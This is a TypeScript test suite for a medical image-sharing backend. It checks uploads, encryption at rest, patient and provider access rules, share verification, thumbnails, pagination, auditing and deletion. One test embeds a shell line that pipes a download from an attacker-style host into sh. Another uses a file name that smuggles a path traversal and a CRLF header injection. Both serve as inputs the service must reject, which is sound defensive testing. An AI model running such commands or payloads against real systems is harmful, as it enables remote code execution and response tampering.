import { ImageMessages } from '@medshare/contracts';
import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type SignedIn, type TestApp, createTestApp, loginAdmin, newUser } from '../../../test/harness.ts';
import { codeIn } from '../../../test/smtp.ts';
import { createKeyring } from '../../crypto/envelope.ts';
import { createPasswordHasher } from '../../crypto/passwords.ts';
import { createEncryptedStore } from '../../storage/encrypted-store.ts';
import { createStorage } from '../../storage/index.ts';
import { createPatientShares } from '../sharing/patient-share.ts';
import { createImagesService } from './images.service.ts';
import { bytesOf, fixture, fixtures, uploadFile } from './images.test-helpers.ts';

let t: TestApp;
let doc: SignedIn;
let patient: SignedIn;
beforeAll(async () => {
  t = await createTestApp();
  doc = await newUser(t, 'healthProvider');
  patient = await newUser(t, 'patient');
});
afterAll(async () => t?.close());

const get = (url: string, token?: string) => t.request({ method: 'GET', url, token });
const png = () => fixture('other/photo_chelsea_cat.png');
const jpg = () => fixture('other/photo_hopper_portrait.jpg');

/** Every file under DATA_DIR/blobs (final objects and partial writes alike). */
function blobFiles(): string[] {
  const root = join(t.dataDir, 'blobs');
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const p = join(dir, name);
      if (statSync(p).isDirectory()) walk(p);
      else out.push(p);
    }
  };
  walk(root);
  return out;
}

/** The sharing id and code of the newest share mail to a user. */
async function shareMail(email: string) {
  await t.app.ctx.services.images.idle();
  const deadline = Date.now() + 5_000;
  while (!(await t.smtp.lastTo(email)).text.includes('Sharing id') && Date.now() < deadline)
    await new Promise((r) => setTimeout(r, 20));
  const mail = await t.smtp.lastTo(email);
  const id = /Sharing id: ([0-9a-f-]{36})/.exec(mail.text)?.[1];
  return { sharingId: id!, code: codeIn(mail) };
}

describe('upload', () => {
  it('stores every real fixture and gives it back byte-identical to the uploader', async () => {
    const sopUids = new Set<string>();
    let second: SignedIn | null = null;
    for (const f of fixtures()) {
      let uploader = doc;
      let res = await uploadFile(t, uploader.token, f, { caption: f.name });
      // CT1_UNC is here twice (implicit VR and JPEG-LS) with one SOP Instance UID: one instance,
      // already stored for this uploader (docs/product.md › Upload); another uploader stores it.
      if (res.statusCode === 200) {
        expect(res.json().code, f.path).toBe('duplicate');
        expect(sopUids.has(res.json().data.dicom.sopInstanceUid), f.path).toBe(true);
        uploader = second ??= await newUser(t, 'healthProvider');
        res = await uploadFile(t, uploader.token, f, { caption: f.name });
      }
      // DICOM module: malformed files may be refused (400) and a DICOMDIR is refused (415, no image in it).
      const malformed = f.name.startsWith('malformed_') || f.name.startsWith('dicomdir_');
      if (malformed) expect(res.statusCode, f.path).toBeLessThan(500);
      else expect(res.statusCode, `${f.path}: ${res.body}`).toBe(201);
      if (res.statusCode !== 201) continue;
      const image = res.json().data;
      if (image.dicom?.sopInstanceUid) sopUids.add(image.dicom.sopInstanceUid);
      expect(image.contentType).toBe(f.type);
      expect(image.sizeBytes).toBe(f.data.length);
      const content = await get(image.image_url, uploader.token);
      expect(content.statusCode).toBe(200);
      expect(content.headers['content-type']).toBe(f.type);
      expect(bytesOf(content).equals(f.data), f.path).toBe(true);
    }
  });

  it('keeps only ciphertext under DATA_DIR/blobs: no 32-byte run of any uploaded file is found', async () => {
    await t.app.ctx.services.images.idle();
    const blobs = Buffer.concat(blobFiles().map((p) => readFileSync(p)));
    expect(blobs.length).toBeGreaterThan(2_000_000);
    for (const f of fixtures()) {
      for (let offset = 0; offset + 32 <= f.data.length; offset += 997) {
        const run = f.data.subarray(offset, offset + 32);
        if (run.every((b) => b === run[0])) continue; // constant runs (zero padding) prove nothing
        expect(blobs.indexOf(run), `${f.path} @${offset}`).toBe(-1);
      }
    }
  });

  it('accepts DICOM declared as application/octet-stream and with the .dicom extension', async () => {
    const f = fixture('dicom/ct_explicit_le_16bit_signed_small.dcm');
    // Fresh uploaders: this instance is already stored for `doc` (a second upload would answer 200, duplicate).
    for (const file of [
      { ...f, type: 'application/octet-stream' },
      { ...f, name: 'scan.dicom' },
    ]) {
      const uploader = await newUser(t, 'healthProvider');
      expect((await uploadFile(t, uploader.token, file)).statusCode, file.name).toBe(201);
    }
  });

  it('accepts DICOM without preamble and meta header (implicit VR little endian)', async () => {
    const uploader = await newUser(t, 'healthProvider');
    const res = await uploadFile(t, uploader.token, fixture('dicom/cr_implicit_le_no_preamble_mono1.dcm'));
    expect(res.statusCode).toBe(201);
    expect(res.json().data.contentType).toBe('application/dicom');
  });

  it('refuses a PNG renamed .pdf with 415 and the message of docs/product.md › Validation rules', async () => {
    const res = await uploadFile(t, doc.token, { ...png(), name: 'report.pdf', type: 'application/pdf' });
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(ImageMessages.invalidType);
  });

  it('refuses a script renamed .jpg with 415', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'.repeat(20));
    const res = await uploadFile(t, doc.token, { name: 'photo.jpg', type: 'image/jpeg', data: script });
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(ImageMessages.invalidType);
  });

  it('refuses bytes whose declared MIME type disagrees (JPEG declared as PNG)', async () => {
    const res = await uploadFile(t, doc.token, { ...jpg(), name: 'x.png', type: 'image/png' });
    expect(res.statusCode).toBe(415);
  });

  it('refuses a file without an accepted extension even when the bytes are DICOM', async () => {
    const res = await uploadFile(t, doc.token, { ...fixture('dicom/dicomdir_explicit_le.dcm'), name: 'DICOMDIR' });
    expect(res.statusCode).toBe(415);
  });

  it('refuses an empty file with 400', async () => {
    const res = await uploadFile(t, doc.token, { name: 'empty.jpg', type: 'image/jpeg', data: Buffer.alloc(0) });
    expect(res.statusCode).toBe(400);
  });

  it('refuses a file of max + 1 bytes with 413 and the setting in the message, and accepts exactly max', async () => {
    const max = 10 * 1024 * 1024;
    const head = jpg().data;
    const big = Buffer.alloc(max + 1, 7);
    head.copy(big);
    await t.app.ctx.services.images.idle();
    const before = blobFiles().length;
    const res = await uploadFile(t, doc.token, { name: 'big.jpg', type: 'image/jpeg', data: big });
    expect(res.statusCode).toBe(413);
    expect(res.json().message).toBe('File size exceeds 10MB limit.');
    expect(blobFiles().length).toBe(before);
    const exact = await uploadFile(t, doc.token, { name: 'exact.jpg', type: 'image/jpeg', data: big.subarray(0, max) });
    expect(exact.statusCode).toBe(201);
  });

  it('follows the max_upload_mb setting', async () => {
    const db = t.app.ctx.database.db;
    await db.updateTable('app_settings').set({ value: '1' }).where('name', '=', 'max_upload_mb').execute();
    t.app.ctx.services.settings.invalidate();
    try {
      const data = Buffer.alloc(1024 * 1024 + 1, 1);
      jpg().data.copy(data);
      const res = await uploadFile(t, doc.token, { name: 'a.jpg', type: 'image/jpeg', data });
      expect(res.statusCode).toBe(413);
      expect(res.json().message).toBe('File size exceeds 1MB limit.');
    } finally {
      await db.updateTable('app_settings').set({ value: '10' }).where('name', '=', 'max_upload_mb').execute();
      t.app.ctx.services.settings.invalidate();
    }
  });

  it('answers 400 with the messages of docs/product.md › Validation rules for no file and a blank caption', async () => {
    const noFile = await uploadFile(t, doc.token, null, { caption: 'x' });
    expect(noFile.statusCode).toBe(400);
    expect(noFile.json().message).toBe(ImageMessages.noFile);
    const blank = await uploadFile(t, doc.token, jpg(), { caption: '   ' });
    expect(blank.statusCode).toBe(400);
    expect(blank.json().message).toBe(ImageMessages.noCaption);
    const json = await t.request({
      method: 'POST',
      url: '/api/upload/image',
      payload: { caption: 'x' },
      token: doc.token,
    });
    expect(json.statusCode).toBe(400);
  });

  it('answers 400 with errors[patientId] for an unknown patient or a non-patient, and stores nothing', async () => {
    await t.app.ctx.services.images.idle();
    const before = blobFiles().length;
    for (const patientId of ['00000000-0000-4000-8000-000000000000', 'not-a-uuid', doc.user.id]) {
      const res = await uploadFile(t, doc.token, jpg(), { caption: 'x', patientId });
      expect(res.statusCode).toBe(400);
      expect(res.json().errors).toContainEqual(expect.objectContaining({ field: 'patientId' }));
    }
    expect(blobFiles().length).toBe(before);
  });

  it('refuses uploads from patients (no image:upload) and from anonymous callers', async () => {
    expect((await uploadFile(t, patient.token, jpg())).statusCode).toBe(403);
    expect((await uploadFile(t, '', jpg())).statusCode).toBe(401);
  });
});

describe('content access', () => {
  it('lets the assigned patient see the content only after verifying the mailed code', async () => {
    const res = await uploadFile(t, doc.token, jpg(), { caption: 'Follow-up', patientId: patient.user.id });
    expect(res.statusCode).toBe(201);
    const id = res.json().data.id;
    const { sharingId, code } = await shareMail(patient.user.email);

    const before = (await get('/api/upload/shared-images', patient.token))
      .json()
      .data.find((i: { id: string }) => i.id === id);
    expect(before).toMatchObject({
      isShared: true,
      isVerified: false,
      sharingId,
      accessState: 'pending',
      image_url: null,
      thumbnailUrl: null,
      expiresAt: null,
      uploadedByMe: false,
    });
    expect(before.sharedBy).toMatchObject({ id: doc.user.id });
    expect(JSON.stringify(before)).not.toContain(code);
    expect((await get(`/api/images/${id}/content`, patient.token)).statusCode).toBe(404);

    const verify = await t.request({
      method: 'POST',
      url: '/api/sharing/verify',
      payload: { sharingRequestId: sharingId, verificationCode: code },
      token: patient.token,
    });
    expect(verify.statusCode).toBe(200);
    await t.app.ctx.services.images.idle();
    const after = (await get('/api/upload/shared-images', patient.token))
      .json()
      .data.find((i: { id: string }) => i.id === id);
    expect(after).toMatchObject({
      isVerified: true,
      accessState: 'verified',
      image_url: `/api/images/${id}/content`,
      thumbnailUrl: `/api/images/${id}/thumbnail`,
    });
    const content = await get(after.image_url, patient.token);
    expect(content.statusCode).toBe(200);
    expect(bytesOf(content).equals(jpg().data)).toBe(true);
  });

  it('never shows a patient another patient’s image, in lists or by guessing its id', async () => {
    const other = await newUser(t, 'patient');
    const res = await uploadFile(t, doc.token, png(), { caption: 'Someone else', patientId: other.user.id });
    const id = res.json().data.id;
    const list = (await get('/api/upload/shared-images?limit=100', patient.token)).json().data;
    expect(list.map((i: { id: string }) => i.id)).not.toContain(id);
    for (const v of ['content', 'thumbnail', 'content?download=1'])
      expect((await get(`/api/images/${id}/${v}`, patient.token)).statusCode).toBe(404);
    // The other patient's own code does not open it for this patient either.
    const { sharingId, code } = await shareMail(other.user.email);
    const steal = await t.request({
      method: 'POST',
      url: '/api/sharing/verify',
      payload: { sharingRequestId: sharingId, verificationCode: code },
      token: patient.token,
    });
    expect(steal.statusCode).toBe(404);
  });

  it('refuses content without a token (401) and with another user’s token (404)', async () => {
    const id = (await uploadFile(t, doc.token, jpg())).json().data.id;
    expect((await get(`/api/images/${id}/content`)).statusCode).toBe(401);
    const stranger = await newUser(t, 'healthProvider');
    expect((await get(`/api/images/${id}/content`, stranger.token)).statusCode).toBe(404);
    expect((await get(`/api/images/not-a-uuid/content`, stranger.token)).statusCode).toBe(404);
    expect((await get(`/api/images/${id}/content?token=${doc.token}`)).statusCode).toBe(400);
  });

  it('answers content with no-store caching, nosniff and a sanitised RFC 6266 file name', async () => {
    const evil = '../../etc/"passwd\r\nX-Evil: 1 résumé.jpg';
    const id = (await uploadFile(t, doc.token, { ...jpg(), name: evil })).json().data.id;
    const res = await get(`/api/images/${id}/content?download=1`, doc.token);
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['x-evil']).toBeUndefined();
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(
      /^attachment; filename="[A-Za-z0-9._()-]+\.jpg"; filename\*=UTF-8''[A-Za-z0-9%._~!-]+\.jpg$/,
    );
    expect(disposition).not.toMatch(/\.\.\/|"passwd|\r|\n/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toContain('résumé');
    expect(String((await get(`/api/images/${id}/content`, doc.token)).headers['content-disposition'])).toMatch(
      /^inline; /,
    );
  });

  it('makes a JPEG thumbnail of at most 320 px for JPEG and PNG, none for PDF', async () => {
    const pngId = (await uploadFile(t, doc.token, png())).json().data.id;
    const pdf = (await uploadFile(t, doc.token, fixture('other/minimal_document_1page.pdf'))).json().data;
    expect(pdf.thumbnailStatus).toBe('none');
    await t.app.ctx.services.images.idle();
    const item = (await get('/api/upload/my-images?limit=100', doc.token))
      .json()
      .data.find((i: { id: string }) => i.id === pngId);
    expect(item).toMatchObject({ thumbnailStatus: 'ready', thumbnailUrl: `/api/images/${pngId}/thumbnail` });
    const thumb = await get(item.thumbnailUrl, doc.token);
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/jpeg');
    expect(thumb.headers['content-disposition']).toMatch(/-thumbnail\.jpg"$/);
    expect(thumb.headers['cache-control']).toBe('private, no-store');
    const meta = await sharp(bytesOf(thumb)).metadata();
    expect(meta.format).toBe('jpeg');
    expect(Math.max(meta.width!, meta.height!)).toBeLessThanOrEqual(320);
    expect((await get(`/api/images/${pdf.id}/thumbnail`, doc.token)).statusCode).toBe(404);
  });

  it('serves a thumbnail made before JPEG as the WebP it was stored as', async () => {
    const id = (await uploadFile(t, doc.token, jpg())).json().data.id;
    await t.app.ctx.services.images.idle();
    // Rows keep their thumbnail's type: those made before 2026-12-06 say WebP.
    await t.app.ctx.database.db
      .updateTable('images')
      .set({ thumb_content_type: 'image/webp' })
      .where('id', '=', id)
      .execute();
    const thumb = await get(`/api/images/${id}/thumbnail`, doc.token);
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/webp');
    expect(thumb.headers['content-disposition']).toMatch(/-thumbnail\.webp"$/);
  });

  it('refuses to serve a blob whose bytes were altered on disk', async () => {
    const res = await uploadFile(t, doc.token, fixture('other/pdflatex_4_pages.pdf'));
    const id = res.json().data.id;
    const path = join(t.dataDir, 'blobs', id.slice(0, 2), id);
    const bytes = readFileSync(path);
    bytes[100] = bytes[100]! ^ 0x01;
    writeFileSync(path, bytes);
    const content = await get(`/api/images/${id}/content`, doc.token);
    expect(
      content.statusCode === 200 && bytesOf(content).length === fixture('other/pdflatex_4_pages.pdf').data.length,
    ).toBe(false);
    expect(content.statusCode).not.toBe(200);
  });

  it('audits every content read and the upload, with metadata only', async () => {
    const id = (await uploadFile(t, doc.token, jpg(), { caption: 'Secret caption text' })).json().data.id;
    await get(`/api/images/${id}/content`, doc.token);
    await get(`/api/images/${id}/content?download=1`, doc.token);
    const rows = await t.app.ctx.database.db.selectFrom('audit_logs').selectAll().where('record_id', '=', id).execute();
    expect(rows.map((r) => r.action_type)).toEqual(
      expect.arrayContaining(['image.upload', 'image.view', 'image.download']),
    );
    expect(JSON.stringify(rows)).not.toContain('Secret caption');
  });
});

describe('lists', () => {
  it('pages my-images 10 at a time by default with the pagination envelope', async () => {
    const p = await newUser(t, 'healthProvider');
    for (let i = 0; i < 12; i++)
      expect((await uploadFile(t, p.token, jpg(), { caption: `n${i}` })).statusCode).toBe(201);
    const first = (await get('/api/upload/my-images', p.token)).json();
    expect(first.data).toHaveLength(10);
    expect(first.pagination).toEqual({
      currentPage: 1,
      pageSize: 10,
      totalPages: 2,
      totalItems: 12,
      hasPrevPage: false,
      hasNextPage: true,
      totalItemsCapped: false,
    });
    expect(first.data[0]).toMatchObject({
      caption: 'n11',
      uploadedByMe: true,
      isShared: false,
      isVerified: true,
      accessState: 'owner',
      image_url: expect.stringMatching(/^\/api\/images\/.+\/content$/),
    });
    const second = (await get('/api/upload/my-images?page=2', p.token)).json();
    expect(second.data.map((i: { caption: string }) => i.caption)).toEqual(['n1', 'n0']);
    expect((await get('/api/upload/my-images?limit=0', p.token)).statusCode).toBe(400);
    expect((await get('/api/upload/my-images?bogus=1', p.token)).statusCode).toBe(400);
    expect(
      await t.app.ctx.services.images.stats({
        userId: p.user.id,
        sessionId: '',
        role: 'healthProvider',
        permissions: new Set(),
        ip: null,
      }),
    ).toEqual({ totalImages: 12, sharedImages: 0 });
  });

  it('lists every image for an admin and none for others on /upload/images', async () => {
    const admin = await loginAdmin(t);
    const all = (await get('/api/upload/images?limit=100', admin.token)).json();
    expect(all.pagination.totalItems).toBeGreaterThan(20);
    expect(all.data.every((i: { image_url: string | null; isVerified: boolean }) => i.image_url && i.isVerified)).toBe(
      true,
    );
    expect((await get(all.data[0].image_url, admin.token)).statusCode).toBe(200);
    expect((await get('/api/upload/images', doc.token)).statusCode).toBe(403);
    expect((await get('/api/upload/images', patient.token)).statusCode).toBe(403);
  });
});

describe('list window', () => {
  it('pages and counts only within the list window: capped flag, 400 past it, exact below it', async () => {
    const ctx = t.app.ctx;
    const storage = createStorage(t.config);
    const windowed = createImagesService({
      db: ctx.database.db,
      store: createEncryptedStore(storage, createKeyring(t.config.masterKey)),
      hasher: createPasswordHasher(t.config.argon2),
      audit: ctx.services.audit,
      settings: ctx.services.settings,
      log: ctx.log,
      sweep: { graceMinutes: 60, intervalMinutes: 60 },
      patientShares: createPatientShares({
        db: ctx.database.db,
        mailer: ctx.mailer,
        settings: ctx.services.settings,
        publicUrl: 'http://x',
      }),
      listWindow: 3,
    });
    try {
      const p = await newUser(t, 'healthProvider');
      for (let i = 0; i < 4; i++)
        expect((await uploadFile(t, p.token, jpg(), { caption: `w${i}` })).statusCode).toBe(201);
      const me = await ctx.services.auth.authenticate(p.token, null);
      const admin = await ctx.services.auth.authenticate((await loginAdmin(t)).token, null);
      const page = (n: number) => ({ page: n, limit: 2 });

      const first = await windowed.list(me, 'mine', page(1));
      expect(first.items.map((i) => i.caption)).toEqual(['w3', 'w2']);
      expect(first.pagination).toEqual({
        currentPage: 1,
        pageSize: 2,
        totalPages: 2,
        totalItems: 3,
        hasPrevPage: false,
        hasNextPage: true,
        totalItemsCapped: true,
      });
      const second = await windowed.list(me, 'mine', page(2));
      expect(second.pagination).toMatchObject({ hasNextPage: false, totalItemsCapped: true });
      for (const [actor, scope] of [
        [me, 'mine'],
        [admin, 'all'],
      ] as const) {
        await expect(windowed.list(actor, scope, page(3)), scope).rejects.toMatchObject({
          status: 400,
          errors: [{ field: 'page', message: 'Must not go past row 3' }],
        });
      }
      expect((await windowed.list(admin, 'all', page(1))).pagination).toMatchObject({
        totalItems: 3,
        totalItemsCapped: true,
      });
      // Below the window: exact counts, no cap (nothing was shared to p).
      expect((await windowed.list(me, 'shared', page(1))).pagination).toMatchObject({
        totalItems: 0,
        totalItemsCapped: false,
      });
      expect((await t.app.ctx.services.images.list(me, 'mine', page(1))).pagination).toMatchObject({
        totalItems: 4,
        totalItemsCapped: false,
      });

      // Through HTTP with the real window: pages past row 10 000 are refused.
      for (const [url, token] of [
        ['/api/upload/my-images?page=1001&limit=10', p.token],
        ['/api/upload/shared-images?page=2001&limit=5', p.token],
        ['/api/upload/images?page=101&limit=100', (await loginAdmin(t)).token],
      ] as const) {
        const res = await get(url, token);
        expect(res.statusCode, url).toBe(400);
        expect(res.json(), url).toMatchObject({
          success: false,
          message: expect.stringContaining('Only the first 10000 images'),
          errors: [{ field: 'page', message: 'Must not go past row 10000' }],
        });
      }
    } finally {
      await windowed.close();
      storage.close();
    }
  });
});

describe('delete', () => {
  it('a double click deletes once: the second request answers 404 and one image.delete row is written', async () => {
    for (let i = 0; i < 4; i++) {
      const id = (await uploadFile(t, doc.token, png(), { caption: 'double click' })).json().data.id as string;
      const del = () => t.request({ method: 'DELETE', url: `/api/upload/image/${id}`, token: doc.token });
      const statuses = (await Promise.all([del(), del()])).map((r) => r.statusCode).sort();
      expect(statuses).toEqual([200, 404]);
      const rows = await t.app.ctx.database.db
        .selectFrom('audit_logs')
        .select('id')
        .where('action_type', '=', 'image.delete')
        .where('record_id', '=', id)
        .execute();
      expect(rows).toHaveLength(1);
    }
  });

  it('lets the uploader delete: shares revoked, blobs and thumbnail removed, content gone, audited', async () => {
    const res = await uploadFile(t, doc.token, png(), { caption: 'to delete', patientId: patient.user.id });
    const id = res.json().data.id;
    await t.app.ctx.services.images.idle();
    const row = await t.app.ctx.database.db
      .selectFrom('images')
      .selectAll()
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    expect(row.thumb_storage_key).toBeTruthy();
    const other = await newUser(t, 'healthProvider');
    expect((await t.request({ method: 'DELETE', url: `/api/upload/image/${id}`, token: other.token })).statusCode).toBe(
      404,
    );
    expect(
      (await t.request({ method: 'DELETE', url: `/api/upload/image/${id}`, token: patient.token })).statusCode,
    ).toBe(403);

    const del = await t.request({ method: 'DELETE', url: `/api/upload/image/${id}`, token: doc.token });
    expect(del.statusCode).toBe(200);
    const files = blobFiles().map((p) => p.split('/').pop());
    expect(files).not.toContain(row.storage_key);
    expect(files).not.toContain(row.thumb_storage_key);
    expect((await get(`/api/images/${id}/content`, doc.token)).statusCode).toBe(404);
    const shares = await t.app.ctx.database.db.selectFrom('shares').selectAll().where('image_id', '=', id).execute();
    expect(shares.every((s) => s.revoked_at)).toBe(true);
    expect(
      (await get('/api/upload/shared-images?limit=100', patient.token)).json().data.map((i: { id: string }) => i.id),
    ).not.toContain(id);
    const audit = await t.app.ctx.database.db
      .selectFrom('audit_logs')
      .select('action_type')
      .where('record_id', '=', id)
      .execute();
    expect(audit.map((a) => a.action_type)).toContain('image.delete');
  });

  it('lets an admin delete any image', async () => {
    const admin = await loginAdmin(t);
    const id = (await uploadFile(t, doc.token, jpg())).json().data.id;
    expect((await t.request({ method: 'DELETE', url: `/api/upload/image/${id}`, token: admin.token })).statusCode).toBe(
      200,
    );
  });
});
